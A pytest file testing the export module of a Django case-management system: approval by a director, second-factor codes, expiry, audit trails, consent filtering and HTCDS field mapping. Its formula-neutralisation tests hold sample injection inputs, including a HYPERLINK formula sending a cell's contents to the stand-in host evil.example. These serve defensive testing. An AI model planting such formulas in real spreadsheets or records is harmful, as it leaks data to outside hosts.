"""Exports: codes-only at once; identifying only with the director's approval and a fresh code from
the requester's authenticator; 24 hours; audited at creation and at every download; formulas
neutralised; the HTCDS export in the standard's field names."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.test import Client as HttpClient
from django.urls import reverse
from django.utils import timezone
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import load_workbook

from wholejourney.accounts.roles import Role
from wholejourney.audit.models import AuditEvent
from wholejourney.cases.tests import factories as case_factories
from wholejourney.clients import services as client_services
from wholejourney.clients.models import Client
from wholejourney.clients.services import consent_record
from wholejourney.conftest import Cast
from wholejourney.core.tests.factories import make_user
from wholejourney.exports import services
from wholejourney.exports.files import neutralise
from wholejourney.exports.models import ExportRequest
from wholejourney.exports.tables import HTCDS_COLUMNS, HTCDS_IDENTIFYING
from wholejourney.exports.tests.factories import authenticator, current_code

pytestmark = pytest.mark.django_db

Status = ExportRequest.Status
# The standard's field names, kept beside this test (data/htcds-2.0-field-names.txt says where from).
HTCDS_FIELD_NAMES = Path(__file__).parent / "data" / "htcds-2.0-field-names.txt"


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    """Export files go to a temporary media folder, not var/media/."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}},
    }


@pytest.fixture
def dara(cast: Cast) -> Client:
    client = case_factories.make_client(cast.case_manager, given_name_latin="Dara", family_name_latin="Sok")
    case_factories.make_case(cast.case_manager, client)
    consent_to_share(cast, client)
    return client


def consent_to_share(cast: Cast, client: Client) -> None:
    """An identifying export carries only clients who agreed to share information (exports.tables)."""
    partner = case_factories.OrganisationFactory(office=client.office)
    consent_record(actor=cast.case_manager, client=client, kind="sharing", partner=partner, given_on=case_factories.DAY)


@pytest.fixture
def browser_as() -> Callable[..., HttpClient]:
    def make(user: Any) -> HttpClient:
        """Signed in, past the second factor when the user has an authenticator."""
        browser = HttpClient()
        browser.force_login(user)
        device = TOTPDevice.objects.filter(user=user, confirmed=True).first()
        if device is not None:
            session = browser.session
            session[DEVICE_ID_SESSION_KEY] = device.persistent_id
            session.save()
        return browser

    return make


def _ask(browser: HttpClient, **data: Any) -> ExportRequest:
    response = browser.post(reverse("exports:list"), {"format": "csv", **data})
    assert response.status_code == 302, response.content
    return ExportRequest.objects.latest("pk")


def _download(browser: HttpClient, export: ExportRequest) -> Any:
    return browser.get(reverse("exports:download", kwargs={"pk": export.pk}))


def _csv_rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _actions(export: ExportRequest) -> list[tuple[str, list[str]]]:
    events = AuditEvent.objects.filter(object_type="exports.exportrequest", object_id=str(export.pk)).order_by("seq")
    return [(e.action, e.changed_fields) for e in events]


# --- codes only ------------------------------------------------------------------------------


def test_codes_only_export_is_ready_at_once_without_names(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    browser = browser_as(cast.case_manager)

    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser, kind="clients")
    response = _download(browser, export)

    export.refresh_from_db()
    assert export.status == Status.READY
    assert export.ready_at is not None
    assert export.expires_at == export.ready_at + datetime.timedelta(hours=24)
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert rows[0][0] == "client_code"
    assert [row[0] for row in rows[1:]] == [dara.code]
    assert "Dara" not in response.content.decode("utf-8-sig")
    assert [a for a, _f in _actions(export)] == ["create", "export", "export"]
    assert _actions(export)[-1][1] == ["download"]


def test_every_download_is_audited(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    browser = browser_as(cast.case_manager)
    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser, kind="cases")

    _download(browser, export)
    _download(browser, export)

    downloads = [f for a, f in _actions(export) if a == "export" and f == ["download"]]
    assert len(downloads) == 2


def test_file_is_encrypted_at_rest(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    browser = browser_as(cast.case_manager)
    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser, kind="clients")
    export.refresh_from_db()

    stored = default_storage.open(export.file_path).read()

    assert export.file_path.startswith("exports/")
    assert stored.startswith(b"wj1:")
    assert dara.code.encode() not in stored


def test_another_user_cannot_download_it(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser_as(cast.case_manager), kind="clients")

    for user in (cast.colleague, cast.director, cast.other_office):
        assert _download(browser_as(user), export).status_code == 404


# --- identifying: approval and a fresh second factor ----------------------------------------


def test_identifying_export_needs_approval_then_a_fresh_code(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    device = authenticator(cast.case_manager)
    requester, director = browser_as(cast.case_manager), browser_as(cast.director)
    export = _ask(requester, kind="clients", identifying="on")
    detail = reverse("exports:detail", kwargs={"pk": export.pk})

    # Before the director approves: nothing to download, nothing built.
    assert _download(requester, export).status_code == 302
    assert export.file_path == ""
    assert export in director.get(reverse("exports:approvals")).context["pending"]

    director.post(reverse("exports:decide", kwargs={"pk": export.pk}), {"decision": "approve"})
    export.refresh_from_db()
    assert export.status == Status.APPROVED and export.approved_by == cast.director
    # Approved, but the requester has not confirmed with a code: still nothing.
    assert _download(requester, export).status_code == 302

    wrong = requester.post(detail, {"code": "000000" if current_code(device) != "000000" else "111111"})
    assert "not correct" in wrong.content.decode()
    device.refresh_from_db()
    device.throttle_reset()  # django-otp slows down guessing after a wrong code
    with django_capture_on_commit_callbacks(execute=True):
        requester.post(detail, {"code": current_code(device)})
    response = _download(requester, export)

    export.refresh_from_db()
    assert export.status == Status.READY
    assert response.status_code == 200
    header, row = _csv_rows(response)
    assert dict(zip(header, row, strict=True))["given_name_latin"] == "Dara"
    client_events = AuditEvent.objects.filter(action="export", object_type="clients.client", object_id=str(dara.pk))
    assert client_events.count() == 1


def test_download_needs_the_code_within_five_minutes(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    device = authenticator(cast.case_manager)
    requester = browser_as(cast.case_manager)
    export = services.export_request(actor=cast.case_manager, kind="cases", format="xlsx", identifying=True)
    services.export_decide(actor=cast.director, export=export, approve=True)
    with django_capture_on_commit_callbacks(execute=True):
        services.export_confirm_second_factor(actor=cast.case_manager, export=export, code=current_code(device))
    assert _download(requester, export).status_code == 200

    ExportRequest.objects.filter(pk=export.pk).update(
        second_factor_checked_at=timezone.now() - datetime.timedelta(minutes=6)
    )

    assert _download(requester, export).status_code == 302


def test_recovery_codes_do_not_confirm_an_export(cast: Cast, dara: Client) -> None:
    from wholejourney.accounts import services as account_services

    codes = account_services.recovery_codes_regenerate(user=cast.case_manager)
    authenticator(cast.case_manager)
    export = services.export_request(actor=cast.case_manager, kind="clients", format="csv", identifying=True)
    services.export_decide(actor=cast.director, export=export, approve=True)

    with pytest.raises(services.ValidationError):
        services.export_confirm_second_factor(actor=cast.case_manager, export=export, code=codes[0])


def test_nobody_approves_their_own_export(cast: Cast, dara: Client, browser_as: Callable[..., HttpClient]) -> None:
    export = services.export_request(actor=cast.director, kind="clients", format="csv", identifying=True)
    director = browser_as(cast.director)

    assert export not in director.get(reverse("exports:approvals")).context["pending"]
    assert (
        director.post(reverse("exports:decide", kwargs={"pk": export.pk}), {"decision": "approve"}).status_code == 404
    )
    with pytest.raises(services.PermissionDenied):
        services.export_decide(actor=cast.director, export=export, approve=True)


def test_another_offices_director_cannot_decide(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient]
) -> None:
    vn_director = make_user(Role.DIRECTOR, office=cast.vn, username="vn.director")
    export = services.export_request(actor=cast.case_manager, kind="clients", format="csv", identifying=True)

    response = browser_as(vn_director).post(
        reverse("exports:decide", kwargs={"pk": export.pk}), {"decision": "approve"}
    )

    assert response.status_code == 404
    export.refresh_from_db()
    assert export.status == Status.REQUESTED


def test_declining_needs_a_reason_the_requester_sees(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient]
) -> None:
    export = services.export_request(actor=cast.case_manager, kind="clients", format="csv", identifying=True)
    director = browser_as(cast.director)
    url = reverse("exports:decide", kwargs={"pk": export.pk})

    director.post(url, {"decision": "decline"})
    export.refresh_from_db()
    assert export.status == Status.REQUESTED
    director.post(url, {"decision": "decline", "note": "Use the codes-only list for the donor."})

    page = browser_as(cast.case_manager).get(reverse("exports:detail", kwargs={"pk": export.pk}))
    assert "Use the codes-only list for the donor." in page.content.decode()


# --- expiry ----------------------------------------------------------------------------------


def test_export_expires_after_24_hours_and_its_file_is_deleted(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    browser = browser_as(cast.case_manager)
    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser, kind="clients")
    export.refresh_from_db()
    path = export.file_path
    ExportRequest.objects.filter(pk=export.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))

    response = _download(browser, export)

    export.refresh_from_db()
    assert response.status_code == 302
    assert export.status == Status.EXPIRED
    assert not default_storage.exists(path)


# --- who may export what ---------------------------------------------------------------------


def test_me_officer_and_partner_cannot_export_client_lists(cast: Cast, browser_as: Callable[..., HttpClient]) -> None:
    for user in (cast.me_officer, cast.partner):
        page = browser_as(user).get(reverse("exports:list"))
        assert page.context["kinds"] == []
        with pytest.raises(services.PermissionDenied):
            services.export_request(actor=user, kind="clients", format="csv", identifying=False)


def test_export_holds_only_the_users_caseload(
    cast: Cast, dara: Client, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    other = case_factories.make_client(cast.other_team_colleague, given_name_latin="Other")
    browser = browser_as(cast.case_manager)
    with django_capture_on_commit_callbacks(execute=True):
        export = _ask(browser, kind="htcds")

    codes = {row[1] for row in _csv_rows(_download(browser, export))[1:]}

    assert dara.code in codes
    assert other.code not in codes


# --- formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+855 12 345 678", "'+855 12 345 678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Sok Dara", "Sok Dara"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_escapes_what_a_spreadsheet_would_run(value: Any, written: Any) -> None:
    assert neutralise(value) == written


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_in_a_record_is_written_as_text(
    cast: Cast, fmt: str, browser_as: Callable[..., HttpClient], django_capture_on_commit_callbacks: Any
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    client = case_factories.make_client(cast.case_manager, given_name_latin=formula, family_name_latin="@Sok")
    consent_to_share(cast, client)
    device = authenticator(cast.case_manager)
    export = services.export_request(actor=cast.case_manager, kind="clients", format=fmt, identifying=True)
    services.export_decide(actor=cast.director, export=export, approve=True)
    with django_capture_on_commit_callbacks(execute=True):
        services.export_confirm_second_factor(actor=cast.case_manager, export=export, code=current_code(device))

    response = _download(browser_as(cast.case_manager), export)

    if fmt == "csv":
        header, row = _csv_rows(response)
        values = dict(zip(header, row, strict=True))
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        header_cells, row_cells = list(sheet.iter_rows())
        assert all(cell.data_type != "f" for cell in row_cells)
        values = {h.value: c.value for h, c in zip(header_cells, row_cells, strict=True)}
    assert values["client_code"] == client.code
    assert values["given_name_latin"] == "'" + formula
    assert values["family_name_latin"] == "'@Sok"


# --- HTCDS -----------------------------------------------------------------------------------


def test_htcds_columns_use_the_standards_field_names() -> None:
    lines = HTCDS_FIELD_NAMES.read_text(encoding="utf-8").splitlines()
    standard = {line for line in lines if line and not line.startswith("#")}

    ours = [c for c in HTCDS_COLUMNS + HTCDS_IDENTIFYING if not c.startswith("wj_")]

    assert ours and set(ours) <= standard


def test_htcds_export_maps_status_and_exploitation(cast: Cast, django_capture_on_commit_callbacks: Any) -> None:
    client = case_factories.make_client(cast.case_manager)
    case_factories.make_case(
        cast.case_manager, client, primary_abuse_type="human_trafficking", trafficking_subtype="labour"
    )
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request(actor=cast.case_manager, kind="htcds", format="csv", identifying=False)
    _name, _type, content = services.export_open(
        actor=cast.case_manager, export=ExportRequest.objects.get(pk=export.pk)
    )

    header, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    values = dict(zip(header, row, strict=True))
    assert values["cas_Status"] == "Active"
    assert values["vic_TypeOfExploitation"] == "ForcedLabour"
    assert values["prs_Gender"] == "NonSpecifiedUnknown"
    assert "prs_FirstName" not in values


# --- the whole office ------------------------------------------------------------------------


def test_office_export_is_for_the_offices_administrator_with_the_directors_approval(
    cast: Cast, dara: Client, django_capture_on_commit_callbacks: Any
) -> None:
    kh_admin = make_user(Role.ADMINISTRATOR, office=cast.kh, username="kh.admin")
    device = authenticator(kh_admin)

    export = services.export_request(actor=kh_admin, kind="office", format="csv", identifying=False)
    services.export_decide(actor=cast.director, export=export, approve=True)
    with django_capture_on_commit_callbacks(execute=True):
        services.export_confirm_second_factor(actor=kh_admin, export=export, code=current_code(device))
    name, content_type, content = services.export_open(actor=kh_admin, export=export)

    assert export.identifying and export.format == "xlsx"  # a whole office is never codes only
    assert name.endswith(".xlsx") and "spreadsheet" in content_type
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames[:4] == ["partners", "partnerships", "agreements", "clients"]
    assert workbook["clients"].max_row == 2
    for user in (cast.admin, cast.case_manager, cast.director):  # global admin: no office; others: no permission
        with pytest.raises((services.PermissionDenied, services.ValidationError)):
            services.export_request(actor=user, kind="office", format="xlsx", identifying=True)


def test_identifying_export_leaves_out_clients_without_consent_to_share(
    cast: Cast, dara: Client, django_capture_on_commit_callbacks: Any
) -> None:
    silent = case_factories.make_client(cast.case_manager, given_name_latin="Sentinelname", family_name_latin="Keo")
    case_factories.make_case(cast.case_manager, silent)
    withdrawn = case_factories.make_client(cast.case_manager, given_name_latin="Withdrew", family_name_latin="Lim")
    consent_to_share(cast, withdrawn)
    client_services.consent_withdraw(actor=cast.case_manager, consent=withdrawn.consents.get())
    device = authenticator(cast.case_manager)
    contents = {}
    for identifying in (True, False):
        with django_capture_on_commit_callbacks(execute=True):
            export = services.export_request(
                actor=cast.case_manager, kind="clients", format="csv", identifying=identifying
            )
        if identifying:
            services.export_decide(actor=cast.director, export=export, approve=True)
            with django_capture_on_commit_callbacks(execute=True):
                services.export_confirm_second_factor(actor=cast.case_manager, export=export, code=current_code(device))
            device.refresh_from_db()
            device.throttle_reset()
        export.refresh_from_db()
        contents[identifying] = services.export_open(actor=cast.case_manager, export=export)[2]

    identifying_text = contents[True].decode("utf-8-sig") if isinstance(contents[True], bytes) else str(contents[True])
    assert dara.code in identifying_text and "Dara" in identifying_text
    assert silent.code not in identifying_text and "Sentinelname" not in identifying_text
    assert withdrawn.code not in identifying_text and "Withdrew" not in identifying_text
    # Codes only: every client of the caseload, as before.
    codes_text = contents[False].decode("utf-8-sig") if isinstance(contents[False], bytes) else str(contents[False])
    assert all(c.code in codes_text for c in (dara, silent, withdrawn))
